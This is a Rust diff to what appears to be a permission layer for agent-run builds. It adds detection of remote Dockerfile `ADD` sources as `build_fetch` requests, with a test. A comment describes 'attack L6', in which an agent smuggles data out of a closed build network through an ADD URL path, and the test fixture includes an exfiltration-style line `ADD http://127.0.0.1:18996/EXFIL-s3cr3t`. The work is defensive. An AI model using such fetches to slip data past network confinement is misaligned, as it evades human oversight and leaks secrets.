@@ -88,7 +88,83 @@ pub fn text_requests(
             built.source(&format!("# syntax={name}")),
         ));
     }
+    for (host, what) in remote_sources(text) {
+        asked.push((
+            built.option("build_fetch", Some(&host)),
+            built.source(&what),
+        ));
+    }
     asked
+}
+
+/// The remote sources of a Dockerfile's `ADD` instructions (and `ONBUILD ADD`), as `(host,
+/// instruction as read)`: a URL (`http://`, `https://`, `git://`, `ssh://`, any `scheme://`)
+/// or an scp-like git address (`git@host:path`) is fetched by the builder itself, on the
+/// host's network whatever the build's network is, so under a closed build network (spec-note
+/// 0442) it carries whatever the agent wrote into its path out (attack L6). A source starting
+/// with a variable (`$SRC`) may become one: its host is the variable as written. Pure.
+pub fn remote_sources(text: &str) -> Vec<(String, String)> {
+    let escape = escape_char(text);
+    let mut found: Vec<(String, String)> = Vec::new();
+    for instruction in dockerfile_instructions(text, escape) {
+        let mut words = Words::new(&instruction, escape);
+        let Some(mut keyword) = words.next().map(|k| k.to_ascii_lowercase()) else {
+            continue;
+        };
+        if keyword == "onbuild" {
+            keyword = words.next().unwrap_or_default().to_ascii_lowercase();
+        }
+        if keyword != "add" {
+            continue;
+        }
+        while words.peek_flag().is_some() {}
+        let rest = words.rest.trim();
+        let mut sources: Vec<String> = if rest.starts_with('[') {
+            serde_json::from_str::<Vec<String>>(rest).unwrap_or_else(|_| words.collect())
+        } else {
+            words.collect()
+        };
+        sources.pop(); // the destination
+        for source in sources {
+            if let Some(host) = remote_host(&source) {
+                let what = format!("ADD {source}");
+                if !found.iter().any(|(h, w)| *h == host && *w == what) {
+                    found.push((host, what));
+                }
+            }
+        }
+    }
+    found
+}
+
+/// The host a remote `ADD` source names (see [`remote_sources`]), lowercased, with its port;
+/// `None` for a path of the build context.
+fn remote_host(source: &str) -> Option<String> {
+    if source.starts_with('$') {
+        return Some(source.split('/').next().unwrap_or(source).to_string());
+    }
+    let authority = match source.split_once("://") {
+        Some((scheme, rest))
+            if !scheme.is_empty()
+                && scheme
+                    .chars()
+                    .all(|c| c.is_ascii_alphanumeric() || "+.-".contains(c)) =>
+        {
+            rest
+        }
+        _ => {
+            // `git@host:path`: a user, a host and a colon before any slash
+            let (user_host, _) = source.split_once(':')?;
+            let (_, host) = user_host.split_once('@')?;
+            if host.is_empty() || host.contains('/') {
+                return None;
+            }
+            return Some(host.to_ascii_lowercase());
+        }
+    };
+    let authority = authority.split(['/', '?', '#']).next().unwrap_or(authority);
+    let host = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
+    Some(host.to_ascii_lowercase())
 }
 
 /// The request of a base `image` of `built`'s build whose `ONBUILD` `triggers` run first in
@@ -570,5 +646,40 @@ mod tests {
             None
         );
         assert_eq!(frontend(None, Some("# a comment\nFROM a\n")), None);
+    }
+
+    /// Attack L6: an `ADD` of a URL or a git address is fetched by the builder on the host's
+    /// network whatever the build's: each is a `build_fetch=<host>` request, named as read;
+    /// a path of the context is not.
+    #[test]
+    fn a_remote_add_is_a_build_fetch_request() {
+        let text = "FROM busybox\n\
+            ADD --chown=1:1 http://127.0.0.1:18996/EXFIL-s3cr3t /x\n\
+            add --checksum=sha256:00 HTTPS://user:pw@Example.test/a?b /y\n\
+            ADD git@git.example.test:org/repo.git /src\n\
+            ADD [\"https://json.example.test/f\", \"/j\"]\n\
+            ONBUILD ADD git://later.example.test/r /r\n\
+            ADD $SRC/file /v\n\
+            ADD local.tar ./dir/ /l\n\
+            ADD c:/windows-looking /w\n";
+        let hosts: Vec<String> = remote_sources(text).into_iter().map(|(h, _)| h).collect();
+        assert_eq!(
+            hosts,
+            [
+                "127.0.0.1:18996",
+                "example.test",
+                "git.example.test",
+                "json.example.test",
+                "later.example.test",
+                "$SRC",
+            ]
+        );
+        let asked = text_requests(Built::Dockerfile("Dockerfile"), text, None);
+        assert!(
+            asked.iter().any(|(p, _)| *p
+                == Permission::RuntimeOption("build_fetch=127.0.0.1:18996".into())),
+            "{asked:?}"
+        );
+        assert!(remote_sources("FROM x\nADD a b /c\nCOPY http://x/y /z\n").is_empty());
     }
 }
